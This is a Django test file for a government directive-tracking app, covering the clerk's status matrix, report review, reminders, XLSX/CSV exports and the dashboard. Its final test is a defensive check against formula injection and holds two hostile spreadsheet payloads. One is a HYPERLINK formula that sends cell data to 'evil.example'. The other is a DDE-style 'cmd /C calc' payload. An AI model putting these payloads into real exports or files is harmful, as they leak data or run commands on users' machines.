"""The clerk's matrix, report review, remind-now, exports and dashboard."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from directives.models import (
    Addressee,
    Assignment,
    Directive,
    Dispatch,
    IncomingEntry,
    Notification,
)
from directives.services import assignments, extensions
from recipients.models import Unit
from tests.directives.workspace.data import make_issued
from tests.factories import RecipientGroupFactory, UnitFactory

pytestmark = pytest.mark.django_db


def cells_of(response, code: str) -> list[str]:
    row = next(r for r in response.context["matrix"].rows if r.dispatch.unit.code == code)
    return [row.receipt.state] + [c.state for c in row.cells]


def test_matrix_shows_each_units_state_and_the_summary(
    client, clerk, directive, task1_x, officer_x, unit_y
):
    assignments.assignment_report(assignment=task1_x, by=officer_x, text="Xong")
    Assignment.objects.filter(unit=unit_y, task__position=2).update(
        due_date=timezone.localdate() - datetime.timedelta(days=30)
    )
    client.force_login(clerk)
    response = client.get(reverse("directives:matrix", args=[directive.pk]))
    assert response.status_code == 200
    assert cells_of(response, "CHUPAH") == ["acknowledged", "done", "acknowledged"]
    assert cells_of(response, "BAOGL") == ["sent", "pending", "overdue"]
    html = response.content.decode()
    assert "badge state-done cell" in html
    summary = response.context["matrix"].summary
    assert summary[0] == "Acknowledged 1/2" or "1/2" in summary[0]
    assert "1/2" in summary[1]  # task 1 done by one unit of two
    assert summary[-1].endswith("1")  # one overdue
    # The time is on hover.
    acked_at = Dispatch.objects.get(unit__code="CHUPAH").acknowledged_at
    assert f'title="Acknowledged {timezone.localtime(acked_at):%d/%m/%Y %H:%M}' in html or (
        f"{timezone.localtime(acked_at):%d/%m/%Y %H:%M}" in html
    )


def test_matrix_filters_late_and_group(client, clerk, directive, unit_x, unit_y):
    group = RecipientGroupFactory(units=[unit_x])
    Addressee.objects.create(directive=directive, group=group, position=1)
    Assignment.objects.filter(unit=unit_y).update(
        due_date=timezone.localdate() - datetime.timedelta(days=30)
    )
    client.force_login(clerk)
    url = reverse("directives:matrix", args=[directive.pk])
    late = client.get(url, {"late": "1"}).context["matrix"].rows
    assert [r.dispatch.unit.code for r in late] == ["BAOGL"]
    grouped = client.get(url, {"group": group.pk}).context["matrix"].rows
    assert [r.dispatch.unit.code for r in grouped] == ["CHUPAH"]


def matrix_queries(client, directive) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(reverse("directives:matrix", args=[directive.pk]))
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_matrix_runs_the_same_number_of_queries_for_10_and_300_units(client, clerk, agency):
    client.force_login(clerk)
    small = make_issued(units=[UnitFactory() for _ in range(10)], issuing_unit=agency, tasks=3)
    big = make_issued(units=[UnitFactory() for _ in range(300)], issuing_unit=agency, tasks=3)
    assert matrix_queries(client, small) == matrix_queries(client, big)


def test_matrix_queries_stay_constant_for_units_whose_book_has_not_taken_the_letter(
    client, clerk, agency
):
    # Dispatches with no entry yet are read from the dispatch alone: every field it needs is loaded.
    client.force_login(clerk)
    small = make_issued(units=[UnitFactory() for _ in range(10)], issuing_unit=agency, tasks=2)
    big = make_issued(units=[UnitFactory() for _ in range(100)], issuing_unit=agency, tasks=2)
    IncomingEntry.objects.filter(dispatch__directive__in=[small, big]).delete()
    assert matrix_queries(client, small) == matrix_queries(client, big)


def test_clerk_opens_a_report_and_accepts_it(client, clerk, task1_x, officer_x):
    assignments.assignment_report(assignment=task1_x, by=officer_x, text="Báo cáo kết quả")
    client.force_login(clerk)
    page = client.get(reverse("directives:assignment_review", args=[task1_x.pk]))
    assert "Báo cáo kết quả" in page.content.decode()
    client.post(reverse("directives:assignment_accept", args=[task1_x.pk]))
    task1_x.refresh_from_db()
    assert task1_x.status == Assignment.Status.ACCEPTED


def test_clerk_returns_a_report_through_the_page(client, clerk, task1_x, officer_x):
    assignments.assignment_report(assignment=task1_x, by=officer_x, text="Báo cáo")
    client.force_login(clerk)
    client.post(reverse("directives:assignment_return", args=[task1_x.pk]), {"comment": "Bổ sung"})
    task1_x.refresh_from_db()
    assert task1_x.status == Assignment.Status.IN_PROGRESS


def test_clerk_grants_an_extension_through_the_page(client, clerk, task1_x, officer_x):
    wanted = task1_x.due_date + datetime.timedelta(days=5)
    ext = extensions.extension_request_create(
        assignment=task1_x, by=officer_x, requested_date=wanted, reason="x"
    )
    client.force_login(clerk)
    later = wanted + datetime.timedelta(days=2)
    client.post(
        reverse("directives:extension_decide", args=[ext.pk]),
        {"decision": "grant", "new_date": later.isoformat()},
    )
    task1_x.refresh_from_db()
    assert task1_x.due_date == later


def test_remind_now_for_selected_units(client, clerk, directive, dispatch_x, officer_x):
    client.force_login(clerk)
    response = client.post(
        reverse("directives:matrix_remind", args=[directive.pk]),
        {"dispatch": [dispatch_x.pk], "back": "late=1", "confirm": "1"},
    )
    assert response.status_code == 302
    assert response["Location"].endswith("?late=1")
    assert Notification.objects.filter(kind="reminder", user=officer_x).count() == 1
    assert not Notification.objects.filter(kind="reminder").exclude(unit=dispatch_x.unit)


def test_remind_now_pressed_twice_reminds_once_and_says_so(
    client, clerk, directive, dispatch_x, officer_x
):
    client.force_login(clerk)
    url = reverse("directives:matrix_remind", args=[directive.pk])

    def press() -> list[str]:
        response = client.post(url, {"dispatch": [dispatch_x.pk], "confirm": "1"}, follow=True)
        assert response.status_code == 200
        shown = [str(m) for m in response.context["messages"]]
        assert all(text in response.content.decode() for text in shown)
        return shown

    assert press() == ["Đã gửi nhắc việc đến 1 đơn vị."]
    sent = sorted(
        Notification.objects.filter(kind="reminder").values_list("channel", "user", "address")
    )
    assert sent == [("email", None, "chupah@gialai.gov.vn"), ("in_app", officer_x.pk, "")]
    assert press() == [
        "1 đơn vị đã được nhắc trong hôm nay: không gửi thêm nhắc việc cho các đơn vị này."
    ]
    assert Notification.objects.filter(kind="reminder").count() == len(sent)


def test_exports_xlsx_and_csv(client, clerk, directive, acked_x):
    client.force_login(clerk)
    response = client.get(reverse("directives:matrix_xlsx", args=[directive.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == directive.number_symbol
    names = [row[0] for row in values[3:]]
    assert sorted(names) == sorted(["UBND huyện Chư Păh", "Báo Gia Lai"])
    response = client.get(reverse("directives:matrix_csv", args=[directive.pk]))
    text = response.content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert any(line and line[0] == "UBND huyện Chư Păh" for line in lines)
    assert "attachment" in response["Content-Disposition"]


def test_dashboard_figures(client, clerk, directive, task1_x, officer_x, unit_y):
    assignments.assignment_report(assignment=task1_x, by=officer_x, text="Xong")
    Assignment.objects.filter(unit=unit_y, task__position=1).update(
        due_date=timezone.localdate() - datetime.timedelta(days=30)
    )
    client.force_login(clerk)
    response = client.get(reverse("directives:dashboard"))
    assert response.status_code == 200
    board = response.context["board"]
    assert board.issued_this_month == 1
    assert board.awaiting_ack == 1
    assert board.overdue == 1
    ranking = [u.name for u in board.units]
    assert ranking[0] == "UBND huyện Chư Păh"
    html = response.content.decode()
    assert 'id="dashboard-data"' in html and "<script>" not in html


def test_exports_keep_formula_like_text_as_text(client, clerk, directive, acked_x):
    """A unit or a subject that starts with "=", "+", "-" or "@" is not a live formula."""
    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Mở")'
    Unit.objects.filter(code="CHUPAH").update(name=hostile)
    Directive.objects.filter(pk=directive.pk).update(subject="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(clerk)
    response = client.get(reverse("directives:matrix_xlsx", args=[directive.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert hostile in [c.value for c in cells]  # the text itself, unchanged
    named = next(c for c in cells if c.value == hostile)
    assert named.data_type == "s" and named.quotePrefix

    response = client.get(reverse("directives:matrix_csv", args=[directive.pk]))
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    values = [value for line in lines for value in line]
    assert [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'" + hostile in values and "'@SUM(1+1)*cmd|' /C calc'!A0" in values
